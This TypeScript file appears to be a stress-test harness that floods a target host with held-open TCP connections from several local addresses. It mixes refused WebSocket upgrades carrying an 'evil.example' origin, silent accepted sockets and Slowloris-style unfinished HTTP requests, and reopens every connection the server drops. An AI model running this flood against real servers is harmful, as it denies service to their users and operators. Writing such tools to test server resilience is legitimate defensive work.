/**
 * A computer that means no good: `flood.ts HOST PORT EACH ADDRESS…` opens so many lines from each of its addresses and
 * never hangs up; for each that is hung up on it opens another one.
 */
import { connect } from 'node:net';

const [host = '', port = '', each = '', ...addresses] = process.argv.slice(2);

/** How long until another line is opened for one that was hung up on, in ms. */
const AGAIN = 500;

const asks = ['GET /ws HTTP/1.1', 'Host: localhost', 'Upgrade: websocket', 'Connection: Upgrade'];
const socketOf = [...asks, 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA=='];
const REFUSED = `${[...socketOf, 'Origin: http://evil.example'].join('\r\n')}\r\n\r\n`;
const LET_IN = `${socketOf.join('\r\n')}\r\n\r\n`;
const SLOW = 'GET / HTTP/1.1\r\nHost: localhost\r\nX: ';

/** A line is refused, let in without a word, or never says all it began with. */
const WAYS = [REFUSED, LET_IN, SLOW];

let opened = 0;
let closed = 0;

function hold(localAddress: string, way: string): void {
  const socket = connect({ host, port: Number(port), localAddress, allowHalfOpen: true });
  let isOpen = false;
  socket.on('connect', () => {
    isOpen = true;
    opened++;
    socket.write(way);
  });
  socket.on('data', () => undefined);
  socket.on('error', () => undefined);
  // It stays half open for as long as the other end lets it.
  const again = (): void => {
    socket.off('end', again).off('close', again);
    if (isOpen) closed++;
    setTimeout(hold, AGAIN, localAddress, way);
  };
  socket.on('end', again).on('close', again);
}

for (let k = 0; k < Number(each); k++)
  for (const [index, address] of addresses.entries()) hold(address, WAYS[(k + index) % WAYS.length] as string);
setInterval(() => process.stdout.write(`${JSON.stringify({ opened, closed })}\n`), 500);
